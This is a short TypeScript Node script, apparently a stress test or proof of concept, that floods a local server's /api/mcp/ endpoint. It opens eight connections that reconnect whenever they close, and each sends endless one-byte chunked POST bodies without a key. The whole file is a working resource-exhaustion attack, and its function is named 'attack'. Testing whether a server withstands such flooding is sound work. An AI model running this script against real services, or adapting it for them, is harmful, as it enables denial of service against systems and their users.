/** Sends bodies in one-byte chunks without a key over and over, on eight connections that open again when they close. */
import { connect } from 'node:net'

const CONNECTIONS = 8
const CHUNKS = Buffer.from('1\r\na\r\n'.repeat(10_000))
const [port = '', slug = ''] = process.argv.slice(2)

function attack(): void {
  const socket = connect(Number(port), '127.0.0.1').on('error', () => {})
  socket.resume().once('close', () => setImmediate(attack))
  socket.write(`POST /api/mcp/${slug} HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n`)
  const push = () => {
    while (!socket.destroyed && socket.write(CHUNKS));
  }
  socket.on('drain', push)
  push()
}

for (let n = 0; n < CONNECTIONS; n++) attack()
process.stdout.write('begun\n')
